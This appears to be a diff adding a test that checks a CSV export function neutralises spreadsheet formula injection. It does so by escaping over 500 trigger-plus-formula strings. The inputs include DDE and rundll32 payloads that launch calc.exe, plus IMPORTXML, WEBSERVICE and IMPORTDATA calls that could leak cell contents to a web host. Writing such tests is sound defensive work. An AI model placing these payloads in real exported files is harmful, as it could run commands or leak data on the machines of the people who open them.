@@ -12,6 +12,55 @@ test.each(["=1+1", "+1", "-1", "@a", "\t=1", "\r=1", "\n=1", "\0=1", "＝1", "�
   },
 );
 
+const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"];
+const FORMULAS = [
+  ...["1+1", "A1", "SUM(A1:A9)", "cmd|'/C calc'!A0", 'DDE("cmd";"/C calc";"!A0")A0', 'HYPERLINK("http://a","b")'],
+  ...[
+    'IMPORTXML(CONCAT("http://a/?v=",A1),"//a")',
+    "WEBSERVICE(A1)",
+    "2+5+cmd|' /C calc'!A0",
+    "10+20+cmd|' /C calc'!A0",
+  ],
+  ...[
+    "rundll32|'URL.dll,OpenURL calc.exe'!A",
+    'IMPORTDATA("http://a")',
+    "NOW()",
+    "INDIRECT(A1)",
+    "x",
+    "",
+    " ",
+    "1",
+    "1,5",
+  ],
+  ...[
+    "-1",
+    "+1",
+    "=1",
+    "@SUM(1)",
+    '"',
+    '""',
+    "'",
+    "''",
+    "\n=1",
+    "\r\n=1",
+    "\t=1",
+    ";=1",
+    ",=1",
+    "|=1",
+    "(1)",
+    "{1}",
+    "[A]",
+  ],
+  ...["https://a/", "žluť", "🙂", "A1&B1", "A1%", "A:A", "1E9", "TRUE", "#REF!"],
+];
+
+test("of 500 payloads none begins as a formula, whatever it is written after", () => {
+  const payloads = TRIGGERS.flatMap((trigger) => FORMULAS.map((formula) => trigger + formula));
+  expect(payloads.length).toBeGreaterThan(500);
+  for (const payload of payloads) expect(csvLine([payload])).toMatch(/^"'/);
+  for (const payload of payloads) expect(csvLine([`'${payload}`])).toMatch(/^"''/);
+});
+
 test("any text comes back when the quotes, and one ' before a trigger, are taken away", () => {
   fc.assert(
     fc.property(fc.string({ unit: "grapheme" }), (text) => {
